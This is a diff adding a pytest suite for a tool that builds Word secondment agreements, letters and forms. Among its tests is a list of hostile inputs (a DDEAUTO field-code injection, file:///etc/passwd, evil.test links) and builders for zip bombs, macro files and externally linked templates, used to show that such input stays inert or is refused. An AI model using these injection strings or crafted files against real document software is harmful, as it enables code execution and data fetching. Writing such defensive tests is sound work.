@@ -1,0 +1,887 @@
+"""The Word files: valid, whole when somebody else's library reads them, and safe to hand on."""
+
+import io
+import json
+import os
+import random
+import re
+import shutil
+import subprocess
+import sys
+import tomllib
+import zipfile
+from dataclasses import replace
+from datetime import date
+from functools import cache
+from pathlib import Path
+from xml.etree import ElementTree
+
+import docx
+import pytest
+from docx.oxml.ns import qn
+from docx.text.paragraph import Paragraph
+
+from planner.answers import read_answers
+from planner.clause_text import plain
+from planner.exporters.rendering import amount, short_date
+from planner.exporters.word import _role, brief, checked_house, documents, form
+from planner.exporters.word_house import HouseProblem
+from planner.exporters.word_package import safe, text_elements
+from planner.forms import load_forms
+from planner.library import load_library
+from planner.phrases import gap_text
+from planner.plan import make_plan
+from scripts.runtime import _zip, packages
+from tests.word import houses
+from tests.word.read import (
+    faults,
+    field_codes,
+    highlighted,
+    numbered_texts,
+    opened,
+    parts,
+    relationships,
+    shown_numbers,
+    styled,
+    tables,
+    words,
+)
+
+ROOT = Path(__file__).parent.parent
+LIBRARY = load_library()
+TODAY = date(2026, 11, 22)
+ONLY_THE_FIRST_ANSWER = {"relationship": "client"}
+CASES = {
+    path.stem: tomllib.loads(path.read_text("utf-8"))
+    for path in sorted(ROOT.glob("examples/*.toml"))
+}
+CASES |= {"empty": ONLY_THE_FIRST_ANSWER}
+CASES |= {"extended": {**ONLY_THE_FIRST_ANSWER, "change": "extended"}}
+NAMES = [q.id for q in LIBRARY.questions.values() if q.kind in ("text", "long_text")]
+MAKING = (ROOT / "tests/word/making.py").read_text("utf-8")
+
+
+@cache
+def plan_of(case):
+    facts, problems = read_answers(CASES[case], LIBRARY.questions, LIBRARY.countries)
+    assert not [problem for problem in problems if not problem.is_missing]
+    return make_plan(facts, LIBRARY, TODAY)
+
+
+@cache
+def drafts(case, notes=True, house=None):
+    return documents(plan_of(case), LIBRARY, TODAY, notes=notes, house=house)
+
+
+@cache
+def letterhead(change=None):
+    return houses.letterhead(change)
+
+
+EVERY_DRAFT = [
+    (case, document.outline.id) for case in sorted(CASES) for document in plan_of(case).documents
+]
+every_draft = pytest.mark.parametrize(("case", "name"), EVERY_DRAFT)
+LOOKS = {
+    "letterhead": letterhead,
+    "numbered headings": lambda: letterhead(houses.with_numbered_headings),
+    "odd and even pages": lambda: letterhead(houses.with_odd_and_even_pages),
+    "links": lambda: letterhead(houses.with_links),
+    "LibreOffice": lambda: (ROOT / "tests/word/libreoffice.docx").read_bytes(),
+    "our own file": lambda: drafts("client-secondment")["assignment-letter.docx"],
+}
+every_look = pytest.mark.parametrize("look", LOOKS)
+
+
+def planned(case, name):
+    return next(d for d in plan_of(case).documents if d.outline.id == name)
+
+
+def file(case, name, **choices):
+    return drafts(case, **choices)[f"{name}.docx"]
+
+
+def clauses(document):
+    return [clause for part in document.parts for clause in part.clauses]
+
+
+def numbered(document):
+    """Return number and text of all that a plan numbers in a document, in order."""
+    found = []
+    for clause in clauses(document):
+        is_schedule = clause.number.startswith("Schedule")
+        found.append((clause.number + "." * (not is_schedule), clause.clause.title))
+        found += [(p.label, plain(p.runs)) for p in clause.paragraphs if p.label]
+    return found
+
+
+@every_draft
+def test_every_draft_is_valid(case, name, tmp_path):
+    assert faults(file(case, name), tmp_path) == []
+
+
+@every_draft
+def test_word_numbers_every_clause_as_the_plan_does(case, name):
+    document = opened(file(case, name))
+
+    assert numbered_texts(document) == numbered(planned(case, name))
+
+
+@every_draft
+def test_definitions_parts_and_terms_are_there(case, name):
+    document, plan = opened(file(case, name)), planned(case, name)
+    unnumbered = [p for c in clauses(plan) for p in c.paragraphs if not p.label]
+    terms = [
+        r.text for c in clauses(plan) for p in c.paragraphs for r in p.runs if r.kind == "term"
+    ]
+
+    assert styled(document, "Definition") == [plain(p.runs) for p in unnumbered]
+    headings = [title for title in styled(document, "Heading 1") if title != "Read this first"]
+    schedules = [c.clause.title for c in clauses(plan) if c.number.startswith("Schedule")]
+    wanted = [p.title for p in plan.parts if not p.clauses[0].number.startswith("Schedule")]
+    assert headings == [*wanted, *schedules, "Signatures"]
+    bold = [
+        run.text
+        for run in all_runs(document)
+        if run.style.name == "Defined term" and run.style.font.bold
+    ]
+    assert bold == terms
+
+
+def all_runs(document):
+    for element in document.element.body.iter(qn("w:p")):
+        yield from Paragraph(element, document._body).runs
+
+
+@every_draft
+def test_every_gap_is_marked_and_listed_up_front(case, name):
+    plan, document = planned(case, name), opened(file(case, name))
+    gaps = [r.text for c in clauses(plan) for p in c.paragraphs for r in p.runs if r.kind == "gap"]
+
+    listed = tables(document).get("Open gaps", (True, [[]]))[1][1:]
+
+    shown = highlighted(document)
+    assert {row[0] for row in listed} >= set(gaps)
+    assert all(shown.count(gap) > gaps.count(gap) for gap in gaps)
+    asks = {gap_text(q.id, LIBRARY): q.ask for q in LIBRARY.questions.values()}
+    for gap, ask, _ in listed:
+        assert ask == asks.get(gap, "Look up the figure in force.")
+    for gap, _, where in listed:
+        found = [
+            c.number
+            for c in clauses(plan)
+            if gap in plain([r for p in c.paragraphs for r in p.runs])
+        ]
+        assert where == (", ".join(found) or "First page")
+    assert bool(listed) == (case in ("empty", "extended"))
+
+
+@every_draft
+def test_what_waits_and_what_is_unchecked_stands_up_front(case, name):
+    document = opened(file(case, name))
+    found, text = tables(document), "\n".join(p.text for p in document.paragraphs)
+    serious = [p for p in plan_of(case).risks if p.risk.level in ("stop", "check")]
+    unsure = [c for c in clauses(planned(case, name)) if not c.verdict.truth]
+
+    for risk in serious:
+        if risk.verdict.truth:
+            assert f"{risk.risk.title}. {risk.risk.action}" in [
+                row[1] for row in found["What was not checked"][1]
+            ]
+        elif risk.risk.level == "stop":
+            assert risk.risk.title in text
+    waiting = dict(found.get("Wording that waits for an answer", (True, []))[1])
+    for clause in unsure:
+        for question in clause.verdict.waits_for:
+            assert clause.number in waiting[LIBRARY.questions[question].ask].split(", ")
+    assert "not legal advice" in text
+    assert "22 November 2026" in text
+    assert LIBRARY.version in text
+
+
+@every_draft
+def test_a_reference_points_at_its_clause_and_shows_its_number(case, name):
+    data = file(case, name)
+    document = opened(data)
+    numbers = {p: number.rstrip(".") for number, p in shown_numbers(document)}
+    targets = {
+        start.get(qn("w:name")): start.getparent()
+        for start in document.element.body.iter(qn("w:bookmarkStart"))
+    }
+    references = 0
+
+    for paragraph in document.element.body.iter(qn("w:p")):
+        for code, shown in fields_in(paragraph):
+            kind, bookmark, *switches = code.split()
+            assert kind == "REF"
+            number = numbers.get(targets[bookmark])
+            assert shown == (number if "\\r" in switches else words(targets[bookmark]))
+            references += 1
+    wanted = [r for c in clauses(planned(case, name)) for p in c.paragraphs for r in p.runs]
+    assert references >= sum(run.kind == "reference" for run in wanted)
+    assert {code.split()[0] for code in field_codes(data)} <= {
+        "REF",
+        "PAGE",
+        "NUMPAGES",
+        "TITLE",
+    }
+
+
+def fields_in(paragraph):
+    """Yield the code of each field with the text that it shows until it is renewed."""
+    code = shown = ""
+    state = None
+    for element in paragraph.iter():
+        if element.tag == qn("w:fldChar"):
+            state = element.get(qn("w:fldCharType"))
+            if state == "end":
+                yield code.strip(), shown
+                code = shown = ""
+        elif element.tag == qn("w:instrText"):
+            code += element.text
+        elif element.tag == qn("w:t") and state == "separate":
+            shown += element.text
+
+
+@every_draft
+def test_notes_are_comments_that_can_be_left_out(case, name):
+    with_notes, without = file(case, name), file(case, name, notes=False)
+    wanted = [c.clause for c in clauses(planned(case, name))]
+
+    comments = list(opened(with_notes).comments)
+
+    assert [c.author for c in comments] == ["Secondment Handbook"] * len(wanted)
+    for clause, comment in zip(wanted, comments, strict=True):
+        assert f"Drafting note. {clause.note}" in comment.text
+        assert clause.usual in comment.text
+        assert comment.timestamp.date() == TODAY
+    assert not list(opened(without).comments)
+    assert "word/comments.xml" not in parts(without)
+    assert b"w:comment" not in parts(without)["word/document.xml"]
+
+
+@every_draft
+def test_each_signatory_has_a_block_with_a_name(case, name):
+    facts, found = plan_of(case).facts, tables(opened(file(case, name)))
+
+    for said in planned(case, name).outline.signed_by:
+        head, rows = found[f"Signature: {said}"]
+        known = getattr(facts, _role(said))
+        assert head
+        assert rows[0] == [said, known or gap_text(_role(said), LIBRARY)]
+        assert [row[0] for row in rows[1:]] == [
+            "Signature",
+            "Name",
+            *([] if said == "Secondee" else ["Position"]),
+            "Date",
+        ]
+
+
+def test_every_signatory_of_every_outline_has_a_name_to_show():
+    said = {(_role(each), each) for o in LIBRARY.outlines.values() for each in o.signed_by}
+
+    assert {role for role, _ in said} == {"home_name", "host_name", "secondee_name"}
+    assert all(("host" in each.lower()) == (role == "host_name") for role, each in said)
+
+
+@every_draft
+def test_schedules_begin_a_page(case, name):
+    document = opened(file(case, name))
+
+    for number, paragraph in shown_numbers(document):
+        begins = paragraph.find(f"{qn('w:pPr')}/{qn('w:pageBreakBefore')}") is not None
+        assert begins == number.startswith("Schedule")
+
+
+def test_costs_are_a_table_in_an_agreement_and_in_no_letter():
+    costs = plan_of("client-secondment").costs
+    found = tables(opened(file("client-secondment", "agreement-of-two")))
+
+    head, rows = found["Estimate of costs"]
+
+    assert head
+    assert rows[0] == ["Cost", "Home bears", "Host bears", "Total"]
+    lines = [*costs.lines, costs.totals]
+    assert [row[1:] for row in rows[1:]] == [
+        [amount(value) for value in (line.home, line.host, line.total)] for line in lines
+    ]
+    letter = tables(opened(file("client-secondment", "assignment-letter")))
+    assert "Estimate of costs" not in letter
+
+
+@every_draft
+def test_the_file_says_what_it_is_in_every_way_that_programs_read(case, name):
+    data, outline = file(case, name), planned(case, name).outline
+    document, core = opened(data), opened(data).core_properties
+
+    assert (core.title, core.subject) == (outline.title, outline.purpose)
+    assert (core.author, core.language) == ("Secondment Handbook", "en-GB")
+    assert core.created.date() == core.modified.date() == TODAY
+    assert b'w:lang w:val="en-GB"' in parts(data)["word/styles.xml"]
+    section = document.sections[-1]
+    assert (section.page_width.mm, section.page_height.mm) == (pytest.approx(210, 0.01),) * 1 + (
+        pytest.approx(297, 0.01),
+    )
+    assert outline.title in section.header.paragraphs[0].text
+    foot = section.footer.paragraphs[0].text
+    assert f"not legal advice. Made on 22 November 2026 with library {LIBRARY.version}." in foot
+    assert foot.endswith("Page 1 of 1")
+    assert [t for t, (head, _) in tables(document).items() if not head] == []
+
+
+def test_text_is_never_broken_inside_its_element():
+    for name in ("agreement-of-two", "assignment-letter"):
+        root = ElementTree.fromstring(parts(file("client-secondment", name))["word/document.xml"])
+        for element in root.iter(qn("w:t")):
+            assert not re.search(r"[\r\n\t]", element.text or "")
+            assert element.get("{http://www.w3.org/XML/1998/namespace}space") == "preserve"
+
+
+@every_draft
+def test_nothing_points_outside_or_at_nothing(case, name):
+    check_relationships(file(case, name))
+
+
+def check_relationships(data):
+    names = parts(data)
+    types = names["[Content_Types].xml"].decode()
+    for part, _, target, mode in relationships(data):
+        assert mode == "", (part, target)
+        folder = part.partition("_rels/")[0]
+        assert os.path.normpath(folder + target) in names, (part, target)
+    for name in names:
+        assert name.endswith(".rels") or f'PartName="/{name}"' in types or name.startswith("[")
+    for name, content in names.items():
+        if name.endswith(".xml"):
+            used = set(re.findall(rb' r:(?:id|embed|link)="([^"]*)"', content))
+            folder, _, file = name.rpartition("/")
+            listed = names.get(f"{folder}/_rels/{file}.rels", b"")
+            assert all(b'Id="%s"' % id in listed for id in used), name
+
+
+def test_a_second_run_gives_the_same_bytes():
+    again = documents(plan_of("client-secondment"), LIBRARY, TODAY, house=letterhead())
+
+    assert again == drafts("client-secondment", house=letterhead())
+
+
+def test_nothing_is_packed_because_not_every_zlib_packs_alike():
+    with zipfile.ZipFile(io.BytesIO(file("internal-move", "letter-within-employer"))) as archive:
+        entries = archive.infolist()
+
+    assert {e.compress_type for e in entries} == {zipfile.ZIP_STORED}
+    assert {(e.date_time, e.create_system) for e in entries} == {((1980, 1, 1, 0, 0, 0), 0)}
+
+
+def test_the_browsers_python_gives_the_same_bytes(tmp_path):
+    answers = {name: {n: str(v) for n, v in case.items()} for name, case in CASES.items()}
+    pyodide = ROOT / "node_modules/pyodide"
+    (tmp_path / "planner.zip").write_bytes(_zip(packages()))
+    call = f"import json\njson.dumps(hashes({answers!r}, bytes.fromhex({letterhead().hex()!r})))"
+    settings = {
+        "pyodide": str(pyodide),
+        "lock": json.loads((pyodide / "pyodide-lock.json").read_text())["info"],
+        "archive": str(tmp_path / "planner.zip"),
+        "code": f"{MAKING}\n{call}",
+    }
+    node = shutil.which(
+        "node", path=f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"
+    )
+    run = subprocess.run(
+        [node, ROOT / "tests/word/pyodide.mjs"],
+        input=json.dumps(settings),
+        text=True,
+        capture_output=True,
+    )
+    assert run.returncode == 0, run.stderr[-2000:]
+    space = {}
+    exec(MAKING, space)
+
+    assert json.loads(run.stdout) == space["hashes"](answers, letterhead())
+
+
+def test_planning_alone_loads_nothing_of_word():
+    asked = '{"do": "plan", "today": "2026-11-22", "answers": {"relationship": "client"}}'
+    code = (
+        f"import sys; from planner.bridge import handle; handle({asked!r})\n"
+        "print([name for name in sys.modules if name.startswith(('planner.exporters.w', 'xml'))])"
+    )
+
+    run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT)
+
+    assert run.stdout.strip() == "[]", run.stderr
+
+
+# What people type
+
+HOSTILE = [
+    "]]>",
+    "</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\x</w:instrText></w:r>",
+    "<w:fldSimple w:instr='INCLUDETEXT c:\\x'/>",
+    '{ HYPERLINK "http://evil.test" } MERGEFIELD x',
+    "http://evil.test \\\\evil\\share file:///etc/passwd mailto:x@evil.test",
+    "one\rtwo\r\nthree\nfour\x0bfive\x0csix\x85seven\u2028eight\u2029nine\tten",
+    "\x00\x01\x07\x08\x1b[31m\x7f\x9f\ud800\udfff\ufffe\uffff",
+    "\u202egnp.exe\u202c \u2066x\u2069 \u200e\u200f\u061c שלום مرحبا",
+    "&amp; &#0; &lt; <!DOCTYPE x> <!-- x --> <?x?> <![CDATA[x]]>",
+    "{{ 7*7 }} {% raw %} {# x #} %(x)s ${x} \\u0000 _x0000_",
+    "clause 7 (Term) [name of the host: to be agreed] Schedule 1 (Costs): x",
+    "😀 é e\u0301 \U0010fffd \ufeff ﷽",
+    "   ",
+    "x" * 100_000,
+    "<&>" * 20_000,
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
+def test_what_people_type_is_only_ever_words(text):
+    plan = plan_of("internal-move")
+    hostile = typed(plan, dict.fromkeys(NAMES, text))
+
+    [data] = documents(hostile, LIBRARY, TODAY).values()
+
+    check_words_only(data, file("internal-move", "letter-within-employer"))
+    kept = safe(re.sub(r"\s", "", text))
+    assert kept in re.sub(r"\s", "", "".join(styled(opened(data), "Clause text")))
+
+
+def test_files_full_of_hostile_texts_are_valid(tmp_path):
+    """Each field has another of them, the longest last."""
+    plan = plan_of("client-secondment")
+    texts = {name: HOSTILE[number % len(HOSTILE)] for number, name in enumerate(NAMES)}
+    hostile = typed(plan, texts)
+
+    made = documents(hostile, LIBRARY, TODAY)
+    _, letter = brief(hostile, LIBRARY, TODAY, "secondee")
+
+    for name, data in made.items():
+        check_words_only(data, drafts("client-secondment")[name])
+    check_words_only(letter, brief(plan, LIBRARY, TODAY, "secondee")[1])
+    assert faults(made["assignment-letter.docx"], tmp_path) + faults(letter, tmp_path) == []
+
+
+def typed(plan, texts):
+    """Return a plan with texts that went through no door that cleans them."""
+    return make_plan(replace(plan.facts, **texts), LIBRARY, TODAY)
+
+
+def check_words_only(data, harmless):
+    check_relationships(data)
+    assert relationships(data) == relationships(harmless)
+    assert field_codes(data) == field_codes(harmless)
+    for name, content in parts(data).items():
+        text = content.decode()
+        ElementTree.fromstring(text)
+        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u2028-\u202e\u2066-\u2069]", text), name
+        if name != "word/document.xml":
+            assert content == parts(harmless)[name], name
+
+
+def test_random_bytes_of_people_never_break_a_file():
+    chance = random.Random(20261122)
+    plan = plan_of("internal-move")
+    for _ in range(30):
+        texts = {
+            name: "".join(chr(chance.choice(RANGES)(chance)) for _ in range(chance.randint(0, 40)))
+            for name in NAMES
+        }
+        [data] = documents(typed(plan, texts), LIBRARY, TODAY).values()
+        for content in parts(data).values():
+            ElementTree.fromstring(content)
+        assert [code for code in field_codes(data) if not OUR_FIELDS.fullmatch(code)] == []
+
+
+OUR_FIELDS = re.compile(r"REF (clause|part)_\w+( \\r)? \\h|PAGE|NUMPAGES|TITLE")
+RANGES = [
+    lambda chance: chance.randrange(0, 0xA0),
+    lambda chance: chance.randrange(0xD7F0, 0xE010),
+    lambda chance: chance.randrange(0x2000, 0x2070),
+    lambda chance: chance.randrange(0xFFF0, 0x10010),
+    lambda chance: chance.randrange(0x110000),
+    lambda chance: ord(chance.choice("<>&'\"{}\\[]%")),
+]
+
+
+def test_line_ends_become_breaks_and_nothing_else_does():
+    assert text_elements("a\r\nb\rc\nd").count("<w:br/>") == 3
+    assert "<w:br/>" not in text_elements("<w:br/>")
+
+
+# One person's part, and the forms
+
+
+@pytest.mark.parametrize("case", ["client-secondment", "germany-to-norway", "empty"])
+@pytest.mark.parametrize("owner", ["secondee", "home_hr", "legal"])
+def test_a_brief_has_the_tasks_of_one_person_in_the_order_of_their_days(case, owner, tmp_path):
+    plan = plan_of(case)
+    mine = [planned for planned in plan.checklist if planned.item.owner == owner]
+
+    name, data = brief(plan, LIBRARY, TODAY, owner)
+
+    assert name == f"brief-{owner.replace('_', '-')}.docx"
+    assert faults(data, tmp_path) == []
+    check_relationships(data)
+    head, rows = tables(opened(data))["Your tasks"]
+    assert head
+    days = sorted(planned.act_by or date.max for planned in mine)
+    assert [row[0].partition(" (")[0] for row in rows[1:]][: sum(d < date.max for d in days)] == [
+        short_date(day) for day in days if day < date.max
+    ]
+    shown = {row[1] for row in rows[1:]}
+    assert len(rows) == len(mine) + 1
+    for planned in mine:
+        [row] = [text for text in shown if text.startswith(planned.item.task)]
+        assert ("May apply" in row) == (not planned.verdict.truth)
+    text = "\n".join(p.text for p in opened(data).paragraphs)
+    assert all(r.risk.title in text for r in plan.risks if r.risk.owner == owner)
+    assert "not legal advice" in text
+    assert LIBRARY.version in text
+
+
+def test_a_task_that_is_done_is_ticked_in_a_brief():
+    plan = plan_of("client-secondment")
+    mine = [planned.item for planned in plan.checklist if planned.item.owner == "secondee"]
+
+    _, data = brief(plan, LIBRARY, TODAY, "secondee", done={mine[0].id})
+
+    rows = opened(data).tables[0].rows[1:]
+    ticked = {row.cells[1].text.partition(" (")[0] for row in rows if "☒" in row._tr.xml}
+    assert ticked == {mine[0].task}
+
+
+@pytest.mark.parametrize("id", load_forms())
+def test_a_form_asks_all_that_it_asks(id, tmp_path):
+    wanted = load_forms()[id]
+
+    name, data = form(wanted, LIBRARY, TODAY)
+
+    assert name == f"form-{id}.docx"
+    assert faults(data, tmp_path) == []
+    check_relationships(data)
+    document = opened(data)
+    text = [words(p) for p in document.element.body.iter(qn("w:p"))]
+    assert styled(document, "Heading 2") == [part.title for part in wanted.parts]
+    for field in (field for part in wanted.parts for field in part.fields):
+        asked = [field.label, field.hint, *field.columns, *field.first_column]
+        offered = [f" {option}" for option in field.options]
+        assert [
+            said for said in (*asked, *offered) if said and not any(said in each for each in text)
+        ] == []
+    heads = document.element.body.findall(
+        f"{qn('w:tbl')}/{qn('w:tr')}/{qn('w:trPr')}/{qn('w:tblHeader')}"
+    )
+    assert len(heads) == len(document.tables)
+    boxes = list(
+        document.element.body.iter("{http://schemas.microsoft.com/office/word/2010/wordml}checkbox")
+    )
+    kinds = ("choice", "scale", "tick")
+    assert len(boxes) == sum(
+        len(field.options) or 1 for p in wanted.parts for field in p.fields if field.kind in kinds
+    )
+
+
+# An organisation's own file
+
+
+@every_look
+def test_a_draft_in_house_style_is_valid_and_whole(look, tmp_path):
+    house = LOOKS[look]()
+    for case, name in (("empty", "agreement-of-two"), ("internal-move", "letter-within-employer")):
+        data = file(case, name, house=house)
+        check_relationships(data)
+        document = opened(data)
+        text = "\n".join(p.text for p in document.paragraphs)
+        assert numbered_texts(document) == numbered(planned(case, name))
+        assert "letterhead that no draft" not in text
+        assert "not legal advice" in text
+    assert faults(data, tmp_path) == []
+
+
+def test_a_brief_and_a_form_in_house_style_are_valid(tmp_path):
+    _, first = brief(plan_of("empty"), LIBRARY, TODAY, "home_hr", house=letterhead())
+    _, second = form(load_forms()["survey"], LIBRARY, TODAY, house=letterhead())
+
+    assert faults(first, tmp_path) + faults(second, tmp_path) == []
+
+
+def test_styles_header_footer_logo_and_page_are_those_of_the_house():
+    house, data = letterhead(), file("client-secondment", "assignment-letter", house=letterhead())
+    theirs, ours = opened(house), opened(data)
+    section = ours.sections[-1]
+
+    for name in ("Normal", "Heading 1", "Heading 2", "Title", "Table Grid"):
+        assert ours.styles[name].element.xml == theirs.styles[name].element.xml
+    assert ours.styles["Heading 1"].font.color.rgb == houses.GREEN
+    assert len({style.style_id for style in ours.styles}) == len(ours.styles)
+    assert len({style.name for style in ours.styles}) == len(ours.styles)
+    assert section.left_margin == theirs.sections[0].left_margin
+    assert section.header.paragraphs[0].text == "Harrow Lane, page 2 and on"
+    assert section.footer.paragraphs[0].text == "Harrow Lane, in confidence"
+    assert section.different_first_page_header_footer
+    [logo] = section.first_page_header.part.related_parts.values()
+    assert logo.blob == houses.picture()
+    # The sheet that is taken out before signing has no letterhead, so that the letter has it.
+    assert not ours.sections[0].different_first_page_header_footer
+    assert parts(data)["word/house/theme1.xml"] == parts(house)["word/theme/theme1.xml"]
+
+
+def test_text_in_a_house_style_says_its_own_language():
+    document = opened(file("client-secondment", "assignment-letter", house=letterhead()))
+
+    for run in document.element.body.iter(qn("w:r")):
+        if run.find(qn("w:t")) is not None:
+            assert run.find(f"{qn('w:rPr')}/{qn('w:lang')}").get(qn("w:val")) == "en-GB"
+
+
+def test_headings_that_a_draft_does_not_number_lose_the_numbers_of_the_house():
+    house = letterhead(houses.with_numbered_headings)
+    document = opened(file("client-secondment", "agreement-of-two", house=house))
+
+    for paragraph in document.paragraphs:
+        if paragraph.style.name.startswith("Heading"):
+            assert paragraph._p.find(f"{qn('w:pPr')}/{qn('w:numPr')}") is not None
+
+
+def test_even_pages_have_the_header_that_the_house_gives_them():
+    house = letterhead(houses.with_odd_and_even_pages)
+    document = opened(file("client-secondment", "assignment-letter", house=house))
+
+    assert document.settings.odd_and_even_pages_header_footer
+    for section in document.sections:
+        assert section.even_page_header.paragraphs[0].text == "Harrow Lane, on the left"
+
+
+def test_a_link_of_the_house_keeps_its_words_and_loses_where_it_points():
+    data = file("client-secondment", "assignment-letter", house=letterhead(houses.with_links))
+
+    everything = b"".join(parts(data).values())
+    assert "our site" in opened(data).sections[-1].footer.paragraphs[0].text
+    assert b"harrow.test" not in everything
+    assert b"hlinkClick" not in everything
+
+
+def test_a_file_made_from_one_of_ours_gets_todays_header_and_footer():
+    old = drafts("client-secondment")["assignment-letter.docx"]
+    old = houses.changed(old, {"word/footer.xml": {LIBRARY.version: "1999.1"}})
+
+    section = opened(file("client-secondment", "agreement-of-two", house=old)).sections[-1]
+
+    assert LIBRARY.version in section.footer.paragraphs[0].text
+    assert "Secondment agreement" in section.header.paragraphs[0].text
+
+
+def test_a_house_without_header_or_footer_gets_ours():
+    bare = houses.saved(docx.Document())
+    section = opened(file("client-secondment", "assignment-letter", house=bare)).sections[-1]
+
+    assert "Assignment letter" in section.header.paragraphs[0].text
+    assert "not legal advice" in section.footer.paragraphs[0].text
+
+
+MAIN_TYPE = "wordprocessingml.document.main+xml"
+DOCUMENT_RELS = "word/_rels/document.xml.rels"
+SETTINGS_RELS = (
+    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+    b'relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
+)
+
+
+def bomb():
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", "<Types/>")
+        archive.writestr("word/media/image1.png", bytes(60_000_000))
+    return buffer.getvalue()
+
+
+def lying_bomb():
+    """Return a file whose styles say that they are small and unpack to far more."""
+    packed = houses.changed(letterhead(), {"word/styles.xml": {"<w:docDefaults>": " " * 9_000_000}})
+    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
+        size = archive.getinfo("word/styles.xml").file_size
+    return packed.replace(size.to_bytes(4, "little"), (1000).to_bytes(4, "little"))
+
+
+def encrypted():
+    data = bytearray(letterhead())
+    for at in [m.start() for m in re.finditer(b"PK\x01\x02", bytes(data))]:
+        data[at + 8] |= 1
+    return bytes(data)
+
+
+REFUSED = {
+    "nothing": (lambda: b"", "is damaged"),
+    "a text": (lambda: b"Dear Sir or Madam", "is damaged"),
+    "another zip": (lambda: bomb()[:200], "is damaged"),
+    "an old .doc": (lambda: bytes.fromhex("d0cf11e0a1b11ae1") + bytes(600), "old .doc"),
+    "a password": (encrypted, "password"),
+    "a bomb": (bomb, "unpacks to more"),
+    "a bomb that lies": (lying_bomb, "unpacks to more|damaged"),
+    "a large file": (lambda: letterhead() + bytes(11_000_000), "larger than 10 MB"),
+    "macros": (
+        lambda: houses.changed(
+            letterhead(),
+            {"[Content_Types].xml": {MAIN_TYPE: "document.macroEnabled.main+xml"}},
+        ),
+        "holds macros",
+    ),
+    "hidden macros": (
+        lambda: houses.changed(letterhead(), {"word/vbaProject.bin": b"x"}),
+        "holds macros",
+    ),
+    "a spreadsheet": (
+        lambda: houses.changed(
+            letterhead(), {"[Content_Types].xml": {MAIN_TYPE: "spreadsheetml.sheet.main+xml"}}
+        ),
+        "is no Word document",
+    ),
+    "a template elsewhere": (
+        lambda: houses.changed(
+            letterhead(),
+            {
+                "word/_rels/settings.xml.rels": SETTINGS_RELS
+                % (b"attachedTemplate", b"http://evil.test/x.dotm")
+            },
+        ),
+        "tied to a template",
+    ),
+    "a picture elsewhere": (
+        lambda: houses.changed(
+            letterhead(),
+            {"word/_rels/header9.xml.rels": SETTINGS_RELS % (b"image", b"http://evil.test/x.png")},
+        ),
+        "fetches a picture",
+    ),
+    "an entity": (
+        lambda: houses.changed(
+            letterhead(),
+            {"word/styles.xml": {"<w:styles": '<!DOCTYPE x [<!ENTITY a "b">]><w:styles'}},
+        ),
+        "way that Word does not use",
+    ),
+    "a field that fetches": (
+        lambda: letterhead(houses.with_field(" INCLUDEPICTURE http://evil.test ")),
+        "field INCLUDEPICTURE",
+    ),
+    "a field that links": (
+        lambda: letterhead(houses.with_field(' hyperlink "http://evil.test" ')),
+        "field HYPERLINK",
+    ),
+    "a field that runs": (lambda: letterhead(houses.with_field(" DDEAUTO c:\\x ")), "DDEAUTO"),
+    "an address in a shape": (
+        lambda: houses.changed(
+            letterhead(),
+            {
+                "word/header2.xml": {
+                    "<w:p>": '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"'
+                    ' href="http://evil.test"/></w:pict></w:r>'
+                }
+            },
+        ),
+        "cannot be taken over",
+    ),
+    "no room for text": (
+        lambda: houses.changed(
+            letterhead(), {"word/document.xml": {'w:left="1701"': 'w:left="9000"'}}
+        ),
+        "less than 9 cm",
+    ),
+    "Strict Open XML": (
+        lambda: houses.changed(
+            letterhead(),
+            {
+                "word/document.xml": {
+                    "http://schemas.openxmlformats.org/wordprocessingml/2006/main": (
+                        "http://purl.oclc.org/ooxml/wordprocessingml/main"
+                    )
+                }
+            },
+        ),
+        "Strict Open XML",
+    ),
+}
+
+
+@pytest.mark.parametrize("name", REFUSED)
+def test_a_file_that_cannot_serve_is_refused_with_words(name):
+    make, said = REFUSED[name]
+
+    with pytest.raises(HouseProblem, match=f"^The house file .*({said})"):
+        checked_house(make())
+
+
+def test_fields_that_only_tell_of_the_file_itself_stay():
+    house = letterhead(houses.with_field(" PAGE  \\* MERGEFORMAT "))
+
+    assert "PAGE  \\* MERGEFORMAT" in field_codes(
+        file("client-secondment", "assignment-letter", house=house)
+    )
+
+
+def test_a_damaged_file_is_refused_or_serves_and_never_fails_otherwise():
+    chance = random.Random(5)
+    whole, plan = letterhead(), plan_of("internal-move")
+    for _ in range(60):
+        data = bytearray(whole)
+        for _ in range(chance.choice((1, 5, 50))):
+            data[chance.randrange(len(data))] = chance.randrange(256)
+        try:
+            [made] = documents(plan, LIBRARY, TODAY, house=bytes(data)).values()
+        except HouseProblem:
+            continue
+        check_relationships(made)
+
+
+# In LibreOffice: `make test-all`
+
+
+def converted(data, kind, folder):
+    """Return what LibreOffice makes of a file; it fails on one that it would have to repair."""
+    office = shutil.which("soffice")
+    assert office, (
+        "LibreOffice is missing: run 'apt-get install libreoffice-writer', then try again."
+    )
+    (folder / "made.docx").write_bytes(data)
+    profile = f"-env:UserInstallation=file://{folder}/profile"
+    command = [office, "--headless", profile, "--convert-to", kind, "--outdir", folder]
+    subprocess.run([*command, folder / "made.docx"], check=True, capture_output=True, timeout=120)
+    return (folder / f"made.{kind.partition(':')[0]}").read_bytes()
+
+
+@pytest.mark.full
+@every_draft
+def test_libreoffice_shows_the_numbers_of_the_plan(case, name, tmp_path):
+    text = converted(file(case, name), "txt:Text (encoded):UTF8", tmp_path).decode("utf-8-sig")
+
+    check_numbers_shown(text, planned(case, name))
+
+
+@pytest.mark.full
+@every_look
+def test_libreoffice_shows_them_in_a_house_style(look, tmp_path):
+    data = file("client-secondment", "agreement-of-two", house=LOOKS[look]())
+    text = converted(data, "txt:Text (encoded):UTF8", tmp_path).decode("utf-8-sig")
+
+    check_numbers_shown(text, planned("client-secondment", "agreement-of-two"))
+
+
+def check_numbers_shown(text, document):
